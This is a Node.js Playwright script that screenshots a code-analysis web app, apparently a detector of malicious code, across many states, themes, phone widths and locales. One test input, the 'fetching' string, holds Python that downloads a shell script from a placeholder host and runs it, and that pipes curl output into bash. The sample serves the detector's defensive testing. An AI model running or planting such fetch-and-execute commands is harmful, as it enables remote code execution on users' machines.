// node scripts/screenshots.mjs [filter]: pictures of the built page in every state, in both themes, at phone width, in
// forced colours and in Portuguese, and of what it prints and saves, in build/screenshots; `readme` writes docs/screenshot.png instead. For eyes, not for a comparison of pixels.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';

import { root, runMain } from './lib/run.mjs';
import { serve } from './lib/server.mjs';

/** @typedef {import('playwright-core').Page} Page */

const folder = join(root, 'build/screenshots');
const tabs = ['summary', 'code', 'layers', 'indicators', 'attack', 'response', 'diagnostics', 'json'];
const looks = [
  { name: 'light', colorScheme: 'light', viewport: { width: 1280, height: 900 } },
  { name: 'dark', colorScheme: 'dark', viewport: { width: 1280, height: 900 } },
  { name: 'phone', colorScheme: 'light', viewport: { width: 390, height: 844 } },
  { name: 'phone-dark', colorScheme: 'dark', viewport: { width: 390, height: 844 } },
  { name: 'wide', colorScheme: 'light', viewport: { width: 1920, height: 1080 } },
  { name: 'forced', colorScheme: 'light', viewport: { width: 1280, height: 900 }, forcedColors: true },
  { name: 'portuguese', colorScheme: 'light', viewport: { width: 1280, height: 900 }, locale: 'pt-PT' },
  { name: 'phone-portuguese', colorScheme: 'light', viewport: { width: 390, height: 844 }, locale: 'pt-PT' },
];

/** @param {Page} page @param {string} id */
async function example(page, id) {
  await page.locator(`#${id}`).click();
  await page.locator('pv-verdict-card').waitFor();
  await page.waitForFunction(() => {
    const workspace = document.querySelector('pv-app')?.shadowRoot?.querySelector('pv-workspace');
    return !(/** @type {any} */ (workspace)?.store.state.scoring);
  });
}

/** @param {Page} page @param {string} tab */
async function open(page, tab) {
  await page.locator(`#tab-${tab}`).click();
  if (['code', 'layers', 'json'].includes(tab)) await page.locator('.cm-line').first().waitFor();
}

const fetching = `import os, urllib.request
urllib.request.urlretrieve("http://files.example.invalid/a.sh", "/tmp/a.sh")
os.system("sh /tmp/a.sh")
os.system("curl -s http://198.51.100.7/b | bash")
`;

/** Each state, and how to get there from the empty page. @type {Record<string, (page: Page) => Promise<void>>} */
const states = {
  empty: async () => {},
  ...Object.fromEntries(
    tabs.map((tab) => [
      `tab-${tab}`,
      async (/** @type {Page} */ page) => {
        await example(page, 'reverse-shell');
        await open(page, tab);
      },
    ]),
  ),
  'code-explained': async (page) => {
    await example(page, 'reverse-shell');
    await page.locator('pv-verdict-card .reasons button').first().click();
    await page.locator('.pv-target').first().hover();
    await page.locator('.pv-explain').waitFor();
  },
  fetches: async (page) => {
    await page.locator('textarea').fill(fetching);
    await page.locator('#analyze').click();
    await open(page, 'indicators');
  },
  'allow-list': async (page) => {
    await example(page, 'webhook');
    await page.locator('pv-verdict-card #allow').click();
    await page.locator('pv-allow-dialog dialog').waitFor();
  },
  'code-search': async (page) => {
    await example(page, 'webhook');
    await open(page, 'code');
    await page.locator('#search').click();
  },
  'save-menu': async (page) => {
    await example(page, 'webhook');
    await page.locator('#save').click();
  },
  findings: async (page) => example(page, 'several'),
  related: async (page) => {
    await example(page, 'several');
    await open(page, 'related');
  },
  webhook: async (page) => example(page, 'webhook'),
  benign: async (page) => example(page, 'admin'),
  'cut-short': async (page) => example(page, 'truncated'),
  'not-a-finding': async (page) => {
    await page.locator('textarea').fill('{"finding": {"category": 1}, "severity"');
    await page.locator('#analyze').click();
    await page.locator('pv-verdict-card').waitFor();
  },
};

await runMain(async () => {
  const [, , filter = ''] = process.argv;
  const { address, close } = await serve(join(root, 'dist/web'), 0);
  const browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
  });
  /** @param {typeof looks[number]} look @param {string} state @param {string} path @param {boolean} fullPage */
  const shoot = async (
    { colorScheme, viewport, locale = 'en-GB', forcedColors = false },
    state,
    path,
    fullPage,
  ) => {
    const context = await browser.newContext({
      colorScheme: /** @type {'light' | 'dark'} */ (colorScheme),
      viewport,
      locale,
      forcedColors: forcedColors ? 'active' : 'none',
      serviceWorkers: 'block',
      reducedMotion: 'reduce',
    });
    const page = await context.newPage();
    await page.goto(address);
    await page.locator('textarea').waitFor();
    await states[state](page);
    // An editor measures itself only when it can be seen.
    const editor = page.locator('.cm-editor').first();
    if ((await editor.count()) > 0) await editor.scrollIntoViewIfNeeded();
    await page.waitForTimeout(150);
    await page.screenshot({ path, fullPage });
    if (state === 'tab-summary') {
      await page.pdf({ path: path.replace('.png', '.pdf'), format: 'A4' });
      await page.locator('#save').click();
      const [saved] = await Promise.all([
        page.waitForEvent('download'),
        page.locator('[role=menuitem]:has-text("HTML")').click(),
      ]);
      await saved.saveAs(path.replace('.png', '.html'));
      await page.goto(pathToFileURL(path.replace('.png', '.html')).href);
      await page.screenshot({ path: path.replace('.png', '-saved.png'), fullPage });
    }
    await context.close();
  };
  try {
    if (filter === 'readme') {
      await shoot(looks[0], 'tab-layers', join(root, 'docs/screenshot.png'), false);
      return;
    }
    mkdirSync(folder, { recursive: true });
    for (const look of looks)
      for (const state of Object.keys(states)) {
        const name = `${state}-${look.name}`;
        if (new RegExp(filter).test(name)) await shoot(look, state, join(folder, `${name}.png`), true);
      }
    console.log(`The pictures are in ${folder}.`);
  } finally {
    await browser.close();
    await close();
  }
});
